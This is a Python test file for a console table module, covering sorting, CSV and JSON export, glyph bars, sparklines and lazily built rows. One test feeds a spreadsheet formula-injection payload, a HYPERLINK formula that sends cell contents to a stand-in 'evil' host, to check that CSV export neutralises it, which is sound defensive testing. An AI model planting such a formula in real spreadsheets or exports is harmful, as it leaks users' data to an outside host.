"""Sorting and exporting tables, and the signs they are drawn with."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from swift_tiers.console.model.glyphs import ASCII, UNICODE
from swift_tiers.console.model.sieve import Sieve
from swift_tiers.console.model.table import Cell, Column, Row, Sorting, Table, as_csv, as_json, ordered
from swift_tiers.console.views.parts.lazy_rows import LazyRows
from swift_tiers.console.views.parts.settled import MOST, Settled, SettledCells

TABLE = Table(
    (Column("name"), Column("size", unit="B"), Column("state", words=True)),
    [
        Row("1", (Cell("beta"), Cell("2.0KiB", 2048), Cell("WRONG", 3))),
        Row("2", (Cell('alpha, the "first"'), Cell("?"), Cell("ok", 0))),
        Row("3", (Cell("Gamma"), Cell("10B", 10), Cell("-"))),
    ],
)


def keys(sorting: Sorting) -> str:
    return "".join(row.key for row in ordered(TABLE, sorting))


def test_sorted_by_values_and_what_is_unknown_comes_last() -> None:
    assert keys(Sorting()) == "123"
    assert keys(Sorting("size")) == "132"
    assert keys(Sorting("size", descending=False)) == "312"
    assert keys(Sorting("name", descending=False)) == "213", "without regard to case"
    assert keys(Sorting("gone")) == "123"


def test_exported_as_values() -> None:
    lines = list(csv.reader(io.StringIO(as_csv(TABLE, TABLE.rows))))
    assert lines == [
        ["name", "size (B)", "state"], ["beta", "2048", "WRONG"], ['alpha, the "first"', "", "ok"], ["Gamma", "10", ""],
    ]  # fmt: skip
    content = json.loads(as_json(TABLE, ordered(TABLE, Sorting("size"))))
    assert [row["size (B)"] for row in content] == [2048, 10, None]
    assert [row["state"] for row in content] == ["WRONG", None, "ok"]


def test_no_spreadsheet_takes_what_clients_call_their_requests_for_a_formula() -> None:
    table = Table(
        (Column("request"), Column("change")),
        [Row("1", (Cell('=HYPERLINK("http://evil/"&A2)'), Cell("-5", -5))), Row("2", (Cell("@x"), Cell("+1", 1)))],
    )
    lines = list(csv.reader(io.StringIO(as_csv(table, table.rows))))
    assert lines[1:] == [['\'=HYPERLINK("http://evil/"&A2)', "-5"], ["'@x", "1"]]
    assert json.loads(as_json(table, table.rows))[1]["request"] == "@x"


@given(st.floats(0, 1), st.integers(1, 60))
def test_a_bar_is_as_long_as_it_says(share: float, width: int) -> None:
    for glyphs in (UNICODE, ASCII):
        bar = glyphs.bar(share, width)
        assert len(bar) == width
        assert abs(bar.count(glyphs.full) - share * width) <= 1
    assert UNICODE.bar(None, width) == UNICODE.unknown * width


@given(st.lists(st.none() | st.floats(0, 1e12), max_size=50), st.integers(1, 40))
@example([5e-324, 1e12], 2)
def test_a_sparkline_shows_the_newest_and_its_highest(values: list[float | None], width: int) -> None:
    line = UNICODE.spark(values, width)
    assert len(line) == width
    shown = values[-width:]
    for sign, value in zip(line[width - len(shown) :], shown, strict=True):
        if value is None:
            assert sign == UNICODE.unknown
        else:
            assert (sign == " ") == (value == 0), "what is little is seen"
    known = [value for value in shown if value is not None]
    if known and max(known) > 0:
        assert UNICODE.sparks[-1] in line


def test_ascii_is_ascii() -> None:
    assert all(ord(sign) < 128 for part in ASCII if isinstance(part, str) for sign in part)


@pytest.mark.parametrize("glyphs", [UNICODE, ASCII])
def test_cutting(glyphs) -> None:
    assert glyphs.cut("abcdef", 6) == "abcdef"
    assert glyphs.cut("abcdefg", 6) == "abcde" + glyphs.ellipsis
    assert glyphs.cut("abc", 0) == ""


SUBJECTS = st.lists(st.tuples(st.integers(0, 5), st.sampled_from(["a", "b", "?", "", "Ab"])), max_size=20)


@given(subjects=SUBJECTS, column=st.sampled_from(["number", "word"]), descending=st.booleans())
def test_rows_that_are_made_late_are_sorted_as_others_are(
    subjects: list[tuple[int, str]], column: str, descending: bool
) -> None:
    columns = (Column("number", right=True), Column("word"))
    cells = (lambda one: Cell(str(one[0]), one[0]), lambda one: Cell(one[1]))

    def row(one: tuple[int, str]) -> Row:
        return Row(f"{one}", tuple(cell(one) for cell in cells))

    plain = Table(columns, [row(one) for one in subjects])
    sorting = Sorting(column, descending)
    memory = Settled()

    def settled(one: tuple[int, str]) -> SettledCells | None:
        """Those with an even number; their words go on."""
        return None if one[0] % 2 else memory.of(one, lambda: (cells[0](one), Cell("never")))

    for late in (
        LazyRows(subjects, str, row, columns, cells),
        LazyRows(subjects, str, row, columns, cells, settled, {1: frozenset("ab?")}),
        LazyRows(subjects, str, row, columns),
    ):
        assert list(ordered(Table(columns, late), sorting)) == list(ordered(plain, sorting))
        for words in ("a", "word:b", "number>2", "!a", "!number>2 a", "4", "!/^[ab]/", "number:/[24]/ b", "AB"):
            assert list(Sieve(words).sift(Table(columns, late))) == list(Sieve(words).sift(plain))


def test_sorting_makes_the_cells_of_its_column_and_no_row() -> None:
    def never(one: int) -> Row:
        raise AssertionError("a row was made")

    def nor(one: int) -> Cell:
        raise AssertionError("a cell of another column was made")

    columns = (Column("number"), Column("other"))
    rows = LazyRows([3, 1, 2], str, never, columns, (lambda one: Cell(str(one), one), nor))
    descending = ordered(Table(columns, rows), Sorting("number"))
    assert len(descending) == 3
    assert descending.index_of("3") == 0
    assert len(Sieve("number:1").sift(Table(columns, rows))) == 1


def test_cells_of_what_is_settled_are_made_once() -> None:
    made: list[int] = []
    memory = Settled()

    def cells(number: int) -> SettledCells:
        def make() -> tuple[Cell, ...]:
            made.append(number)
            return (Cell(str(number)), Cell("Other"))

        return memory.of(number, make)

    assert [cells(number).said for number in (1, 2, 1)] == ["1\nother", "2\nother", "1\nother"]
    assert made == [1, 2]
    for number in range(2 * MOST):
        cells(number)
    assert len(memory._kept) == MOST, "the oldest were forgotten"
